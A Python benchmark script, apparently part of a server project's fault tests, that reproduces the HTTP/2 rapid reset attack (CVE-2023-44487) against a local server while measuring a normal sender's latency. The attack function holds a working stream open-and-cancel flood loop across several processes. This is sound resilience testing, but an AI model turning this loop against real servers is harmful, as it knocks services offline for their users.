#!/usr/bin/env python3
"""HTTP/2 rapid reset (CVE-2023-44487) beside a normal sender: attackers open HTTP/2
(h2c) connections and open and cancel streams as fast as they can; the normal sender's
answers must stay within their usual latency and forebay must keep running.

Runs itself in a virtual environment under bench/results/ with the `h2` package
(pinned), installed from PyPI on first use.

Usage: bench/faults/rapid_reset.py [DURATION] [RATE] [ATTACKERS]
  (defaults: 20 s, 100 events/s, 4 connections)
"""

import os
import socket
import subprocess
import sys
import multiprocessing
import time

HERE = os.path.dirname(os.path.abspath(__file__))
VENV = os.path.join(HERE, "..", "results", "h2-venv")
H2 = "h2==4.1.0"

if os.environ.get("FOREBAY_H2_VENV") != "1":
    python = os.path.join(VENV, "bin", "python")
    if not os.path.exists(python):
        subprocess.run([sys.executable, "-m", "venv", VENV], check=True)
        subprocess.run([python, "-m", "pip", "install", "-q", H2], check=True)
    os.execve(python, [python] + sys.argv, {**os.environ, "FOREBAY_H2_VENV": "1"})

import h2.config  # noqa: E402
import h2.connection  # noqa: E402
import h2.errors  # noqa: E402

sys.path.insert(0, HERE)
from common import INGEST_PORTS, arg  # noqa: E402
from hostile import beside  # noqa: E402

PORT = INGEST_PORTS[0]


def attack(stop_event, counts):
    """One connection: HEADERS then RST_STREAM, again and again, reading what comes. Runs
    in a process of its own, so that its work does not delay the normal sender (the
    interpreter runs one thread at a time)."""
    stats = {}
    try:
        hammer(stop_event, stats)
    finally:
        counts.put(stats)


def hammer(stop_event, stats):
    while not stop_event.is_set():
        try:
            s = socket.create_connection(("127.0.0.1", PORT), timeout=5)
            conn = h2.connection.H2Connection(h2.config.H2Configuration(client_side=True))
            conn.initiate_connection()
            s.sendall(conn.data_to_send())
            s.setblocking(False)
            headers = [
                (":method", "POST"),
                (":path", "/in/load"),
                (":scheme", "http"),
                (":authority", "127.0.0.1"),
                ("content-type", "application/json"),
            ]
            while not stop_event.is_set():
                for _ in range(100):
                    sid = conn.get_next_available_stream_id()
                    conn.send_headers(sid, headers)
                    conn.reset_stream(sid, h2.errors.ErrorCodes.CANCEL)
                    stats["streams"] = stats.get("streams", 0) + 1
                try:
                    s.sendall(conn.data_to_send())
                except BlockingIOError:
                    time.sleep(0.001)
                try:
                    while True:
                        data = s.recv(65536)
                        if not data:
                            raise ConnectionError("closed by the server")
                        conn.receive_data(data)
                except BlockingIOError:
                    pass
        except (OSError, ConnectionError, h2.exceptions.ProtocolError) as e:
            key = f"connection ended: {type(e).__name__}"
            stats[key] = stats.get(key, 0) + 1
            time.sleep(0.01)


def main():
    attackers = arg(3, 4)
    stop_event = multiprocessing.Event()
    counts = multiprocessing.Queue()
    procs = [
        multiprocessing.Process(target=attack, args=(stop_event, counts)) for _ in range(attackers)
    ]

    def begin():
        for p in procs:
            p.start()

    def end():
        stop_event.set()
        stats = {}
        for _ in procs:
            for key, n in counts.get(timeout=30).items():
                stats[key] = stats.get(key, 0) + n
        for p in procs:
            p.join()
        return stats

    return beside(f"HTTP/2 rapid reset ({attackers} connections)", begin, end, "forebay-h2-")


if __name__ == "__main__":
    sys.exit(main())
